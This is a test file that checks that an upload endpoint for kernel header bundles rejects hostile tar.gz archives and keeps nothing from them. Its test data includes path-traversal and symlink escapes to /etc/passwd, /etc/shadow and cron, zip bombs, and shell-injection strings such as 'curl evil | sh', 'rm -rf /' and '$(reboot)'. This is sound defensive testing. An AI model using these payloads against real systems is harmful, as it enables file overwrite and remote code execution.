import { randomBytes } from "node:crypto";
import { Readable } from "node:stream";
import tar from "tar-stream";
import { describe, expect, it } from "vitest";
import { bytesOf, gzipOf, gzipStream, tarStream, validEntries, type FieldValues, type FixtureEntry } from "@/lib/bundles/testing/bundle-archive";
import { corpusFileName, hostileCorpus } from "@/lib/bundles/testing/hostile-corpus";
import { filesInBundleStore, streamedUploadRequest } from "./helpers/bundle-store";
import { freshDataDir } from "./helpers/sample-data-dir";

// Every archive here is made by the test as a stream (tar-stream + zlib) and
// sent through POST /api/bundles as a streamed multipart body, as a browser
// would send it. Each must be refused with its own 4xx and reason, and leave
// nothing behind: no bundle, no temporary file, no row.

const dataDir = freshDataDir("hostile");
const MAX_BYTES = 16 * 1024 ** 2;
process.env.KOBUILD_MAX_BUNDLE_BYTES = String(MAX_BYTES);

const collection = await import("@/app/api/bundles/route");
const { getDb } = await import("@/lib/db/client");
const { bundles } = await import("@/lib/db/schema");
const { BUNDLE_ERROR_REASONS } = await import("@/lib/bundles/bundle-error");

const none = { params: Promise.resolve({}) };
const KERNEL = "5.4.0-1055-gcp";
const NAME = `bundle-${KERNEL}.tgz`;
if (corpusFileName !== NAME) throw new Error("the corpus is made for another kernel");

const uploadRequest = streamedUploadRequest;

const filesInStore = () => filesInBundleStore(dataDir);

const withExtra = (extra: FixtureEntry[], fields: FieldValues = {}) => () => gzipStream(validEntries(fields, extra));

/** A tar stream of a valid bundle, as bytes, to cut in places. */
const validTar = () => bytesOf(tarStream(validEntries({}, [{ name: "./include/linux/big.h", content: randomBytes(6000) }])));

/**
 * A bundle with `count` more empty files, gzipped as it is made: the tar is
 * packed a thousand entries at a time, each batch without its end-of-archive
 * blocks but the last, so the whole archive is never held.
 */
function manyEntries(count: number): Readable {
  async function* batches() {
    const batch = 1000;
    for (let start = 0; start < count; start += batch) {
      const pack = tar.pack();
      const names = Array.from({ length: Math.min(batch, count - start) }, (_, i) => `./include/generated/f${start + i}.h`);
      if (start === 0) for (const entry of validEntries()) pack.entry({ name: entry.name, type: entry.type ?? "file" }, entry.content ?? "");
      for (const name of names) pack.entry({ name }, "");
      pack.finalize();
      const bytes = await bytesOf(pack);
      yield start + batch >= count ? bytes : bytes.subarray(0, bytes.length - 1024);
    }
  }
  return gzipOf(Readable.from(batches()), 1);
}

type Case = {
  what: string;
  status: number;
  reason: string;
  /** What the message says about the problem, besides the reason code. */
  says: RegExp;
  fileName?: string;
  archive: () => AsyncIterable<unknown> | Promise<AsyncIterable<unknown>>;
};

const corpus: Case[] = [
  { what: "an entry climbing out with ..", status: 422, reason: "unsafe_path", says: /"\.\.\/\.\.\/etc\/cron\.d\/evil" climbs out of the archive/, archive: withExtra([{ name: "../../etc/cron.d/evil", content: "* * * * * root sh\n" }]) },
  { what: "an absolute path", status: 422, reason: "unsafe_path", says: /"\/root\/\.ssh\/authorized_keys" is an absolute path/, archive: withExtra([{ name: "/root/.ssh/authorized_keys", content: "ssh-ed25519 AAAA\n" }]) },
  { what: "a symlink to an absolute path", status: 422, reason: "unsafe_link", says: /the link "include\/passwd" -> "\/etc\/passwd" leads out of the archive/, archive: withExtra([{ name: "./include/passwd", type: "symlink", linkname: "/etc/passwd" }]) },
  { what: "a symlink climbing out", status: 422, reason: "unsafe_link", says: /the link "include\/up" -> "\.\.\/\.\.\/\.\." leads out/, archive: withExtra([{ name: "./include/up", type: "symlink", linkname: "../../.." }]) },
  {
    what: "a chain of symlinks that each look inside",
    status: 422,
    reason: "unsafe_link",
    says: /the link "t" -> "s\/s\/\.\.\/\.\.\/x" leads out/,
    archive: withExtra([
      { name: "./s", type: "symlink", linkname: "." },
      { name: "./t", type: "symlink", linkname: "s/s/../../x" },
    ]),
  },
  {
    what: "a file written through a symlink",
    status: 422,
    reason: "unsafe_path",
    says: /"l\/evil\.h" is written through the link "l"/,
    archive: withExtra([
      { name: "./l", type: "symlink", linkname: "include" },
      { name: "./l/evil.h", content: "x" },
    ]),
  },
  { what: "a hard link climbing out", status: 422, reason: "unsafe_link", says: /the hard link "shadow": .* climbs out of the archive/, archive: withExtra([{ name: "./shadow", type: "link", linkname: "../../etc/shadow" }]) },
  { what: "a hard link to an absolute path", status: 422, reason: "unsafe_link", says: /the hard link "shadow": .* is an absolute path/, archive: withExtra([{ name: "./shadow", type: "link", linkname: "/etc/shadow" }]) },
  { what: "a character device", status: 422, reason: "special_file", says: /"dev\/mem" is a character-device/, archive: withExtra([{ name: "./dev/mem", type: "character-device" }]) },
  { what: "a block device", status: 422, reason: "special_file", says: /"dev\/sda" is a block-device/, archive: withExtra([{ name: "./dev/sda", type: "block-device" }]) },
  { what: "a fifo", status: 422, reason: "special_file", says: /"include\/pipe" is a fifo/, archive: withExtra([{ name: "./include/pipe", type: "fifo" }]) },
  { what: "too many entries", status: 422, reason: "too_many_entries", says: /more than 200000 entries/, archive: () => manyEntries(200_001) },
  {
    what: "more than 2 GiB unpacked, at less than 200 times its size",
    status: 422,
    reason: "too_large_unpacked",
    says: /the archive unpacks to more than 2147483648 bytes/,
    // Random bytes first keep the ratio under 200 all along; zeros at gzip level 1 are quick to make.
    archive: () => gzipStream(validEntries({}, [{ name: "./include/noise.bin", content: randomBytes(4 * 1024 ** 2) }, { name: "./include/zeros", zeros: 2 * 1024 ** 3 }]), 1),
  },
  { what: "a zip bomb: 256 MiB of zeros", status: 422, reason: "ratio", says: /unpacks to more than 200 times its compressed size/, archive: () => gzipOf(tarStream(validEntries({}, [{ name: "./include/zeros", zeros: 256 * 1024 ** 2 }])), 9) },
  { what: "not gzip at all", status: 422, reason: "not_gzip", says: /is not gzip-compressed/, archive: () => Readable.from([Buffer.from("#!/bin/sh\nrm -rf /\n")]) },
  { what: "a zip file", status: 422, reason: "not_gzip", says: /is not gzip-compressed/, archive: () => Readable.from([Buffer.from("PK\u0003\u0004\u0014\u0000\u0000\u0000"), randomBytes(4000)]) },
  { what: "gzip of something that is not tar", status: 422, reason: "not_tar", says: /is not a tar archive/, archive: () => gzipOf(randomBytes(64 * 1024)) },
  {
    what: "a truncated gzip",
    status: 422,
    reason: "truncated",
    says: /the gzip data ends early/,
    archive: async () => {
      const gz = await bytesOf(gzipOf(await validTar()));
      return Readable.from([gz.subarray(0, gz.length - 200)]);
    },
  },
  {
    what: "a damaged gzip",
    status: 422,
    reason: "corrupt",
    says: /the gzip data is damaged/,
    archive: async () => {
      const gz = await bytesOf(gzipOf(await validTar()));
      gz[gz.length - 6] = (gz[gz.length - 6] ?? 0) ^ 0x55;
      return Readable.from([gz]);
    },
  },
  {
    what: "a tar cut in the middle of an entry",
    status: 422,
    reason: "truncated",
    says: /the tar data ends in the middle of an entry/,
    archive: async () => {
      const t = await validTar();
      return gzipOf(t.subarray(0, t.length - 1024 - 3000));
    },
  },
  {
    what: "a tar without its end-of-archive blocks",
    status: 422,
    reason: "truncated",
    says: /ends before its end-of-archive marker/,
    archive: async () => {
      const t = await validTar();
      return gzipOf(t.subarray(0, t.length - 1024));
    },
  },
  { what: "an empty file", status: 422, reason: "empty", says: /the file is empty/, archive: () => Readable.from([]) },
  { what: "an archive with no entries", status: 422, reason: "empty", says: /the archive has no entries/, archive: () => gzipOf(Buffer.alloc(10240)) },
  { what: "no BUNDLE_UNAME", status: 422, reason: "missing_field", says: /the archive has no BUNDLE_UNAME at its root/, archive: () => gzipStream(validEntries({ UNAME: null })) },
  { what: "an empty BUNDLE_UNAME", status: 422, reason: "missing_field", says: /BUNDLE_UNAME is empty/, archive: () => gzipStream(validEntries({ UNAME: "" })) },
  { what: "a BUNDLE_DISTRO of white space", status: 422, reason: "missing_field", says: /BUNDLE_DISTRO is empty/, archive: () => gzipStream(validEntries({ DISTRO: " \n\t\n" })) },
  { what: "an empty BUNDLE_VERSION", status: 422, reason: "missing_field", says: /BUNDLE_VERSION is empty/, archive: () => gzipStream(validEntries({ VERSION: "" })) },
  {
    what: "a BUNDLE_UNAME of another kernel than the file name",
    status: 422,
    reason: "name_mismatch",
    says: /BUNDLE_UNAME "5\.4\.0-9999-aws" is not the kernel "5\.4\.0-1055-gcp" the file is named after/,
    archive: () => gzipStream(validEntries({ UNAME: "5.4.0-9999-aws" })),
  },
  { what: "a BUNDLE_UNAME of another series", status: 422, reason: "name_mismatch", says: /BUNDLE_UNAME "4\.4\.0-1-gcp" does not start with 5\.4/, archive: () => gzipStream(validEntries({ UNAME: "4.4.0-1-gcp" })) },
  { what: "a BUNDLE_UNAME with shell in it", status: 422, reason: "bad_field", says: /BUNDLE_UNAME .* is not a kernel release string/, archive: () => gzipStream(validEntries({ UNAME: "5.4.0-1055-gcp$(reboot)" })) },
  { what: "a name that is not bundle-<kernel>.tgz", status: 422, reason: "bad_name", says: /the file name "linux-headers-5\.4\.0-1055-gcp\.tar\.gz" is not bundle-<kernel>\.tgz/, fileName: "linux-headers-5.4.0-1055-gcp.tar.gz", archive: () => gzipStream(validEntries()) },
  { what: "a kernel id with shell metacharacters", status: 422, reason: "bad_name", says: /is not bundle-<kernel>\.tgz/, fileName: "bundle-5.4.0;rm -rf $HOME|`id`&.tgz", archive: () => gzipStream(validEntries()) },
  { what: "a kernel id starting with a dash", status: 422, reason: "bad_name", says: /is not bundle-<kernel>\.tgz/, fileName: "bundle--rf.tgz", archive: () => gzipStream(validEntries()) },
  {
    what: "a file over KOBUILD_MAX_BUNDLE_BYTES",
    status: 413,
    reason: "too_large",
    says: new RegExp(`the upload is larger than ${MAX_BYTES} bytes`),
    archive: () => gzipStream(validEntries({}, [{ name: "./include/noise.bin", content: randomBytes(MAX_BYTES + 1024 ** 2) }]), 1),
  },
  { what: "BUNDLE_UNAME given twice", status: 422, reason: "bad_field", says: /BUNDLE_UNAME appears twice/, archive: withExtra([{ name: "BUNDLE_UNAME", content: "5.4.0-1055-gcp-evil" }]) },
  { what: "a file given twice", status: 422, reason: "duplicate_entry", says: /"Makefile" appears twice; unpacking would keep only the last one/, archive: withExtra([{ name: "./Makefile", content: "all:\n\tcurl evil | sh\n" }]) },
  { what: "a directory given again as a symlink", status: 422, reason: "duplicate_entry", says: /"include" appears twice/, archive: withExtra([{ name: "./include", type: "symlink", linkname: "include/generated" }]) },
  { what: "a pax header over 4 MiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: "./include/x.h", content: "x", pax: { comment: "A".repeat(5 * 1024 ** 2) } }]) },
  { what: "an entry name of 64 KiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(32 * 1024)}x.h`, content: "x" }]) },
  { what: "an entry name of 8 KiB", status: 422, reason: "unsafe_path", says: /has a name longer than 4096 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(4 * 1024)}x.h`, content: "x" }]) },
  { what: "a link target of 64 KiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(32 * 1024) }]) },
  { what: "a link target of 8 KiB", status: 422, reason: "unsafe_link", says: /has a target longer than 4096 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(4 * 1024) }]) },
  { what: "a control character in a name", status: 422, reason: "unsafe_path", says: /has a control character in its name/, archive: withExtra([{ name: "./include/evil\u001b[2J.h", content: "x" }]) },
  { what: "a BUNDLE_BUILD_DIR climbing out", status: 422, reason: "unsafe_path", says: /BUNDLE_BUILD_DIR "\.\/\.\.\/\.\.\/usr\/src" climbs out of the archive/, archive: () => gzipStream(validEntries({ BUILD_DIR: "./../../usr/src" })) },
  // Archives GNU tar would read another way than a lax reader, and archives cheap to send and costly to read.
  ...hostileCorpus
    .filter((c) => c.outcome !== "accepted")
    .map((c): Case => ({ what: `${c.kind}: ${c.what}`, status: 422, reason: c.outcome, says: new RegExp(`: .{20,}\\(${c.outcome}\\)$`), archive: async () => Readable.from([await c.bytes()]) })),
];

describe("POST /api/bundles refuses hostile archives and keeps nothing of them", () => {
  it("proves below every refusal an upload can get", () => {
    // A full disk has its own test (disk-full), and not_found is for deleting.
    const elsewhere = new Set(["disk_full", "not_found"]);
    expect(new Set([...corpus.map((c) => c.reason), "duplicate_kernel"])).toEqual(new Set(BUNDLE_ERROR_REASONS.filter((r) => !elsewhere.has(r))));
  });

  it.each(corpus)("$what: $status $reason", async (c) => {
    const fileName = c.fileName ?? NAME;
    const response = await collection.POST(uploadRequest(fileName, await c.archive()), none);
    const body = (await response.json()) as { error: string; results: { file: string; status: string; error: string; httpStatus: number }[] };
    expect({ status: response.status, reason: /\((\w+)\)$/.exec(body.error)?.[1] }).toEqual({ status: c.status, reason: c.reason });
    expect(body.error).toMatch(c.says);
    expect(body.results).toEqual([{ file: fileName, status: "rejected", error: body.error, httpStatus: c.status }]);
    expect(body.error.startsWith(`${fileName}: `)).toBe(true);
    expect(filesInStore()).toEqual([]);
    expect(getDb().select().from(bundles).all()).toEqual([]);
  }, 120_000);

  it("still stores a good bundle after all that: the checks above can see a stored one", async () => {
    const response = await collection.POST(uploadRequest(NAME, gzipStream(validEntries())), none);
    expect(response.status).toBe(201);
    expect(filesInStore()).toEqual([NAME]);
    expect(getDb().select({ kernel: bundles.kernel }).from(bundles).all()).toEqual([{ kernel: KERNEL }]);
  });

  it("refuses the same kernel with other content (409 duplicate_kernel) and keeps the first", async () => {
    const before = getDb().select().from(bundles).all();
    const response = await collection.POST(uploadRequest(NAME, gzipStream(validEntries({}, [{ name: "./include/other.h", content: "other" }]))), none);
    const body = (await response.json()) as { error: string };
    expect({ status: response.status, reason: /\((\w+)\)$/.exec(body.error)?.[1] }).toEqual({ status: 409, reason: "duplicate_kernel" });
    expect(filesInStore()).toEqual([NAME]);
    expect(getDb().select().from(bundles).all()).toEqual(before);
  });
});
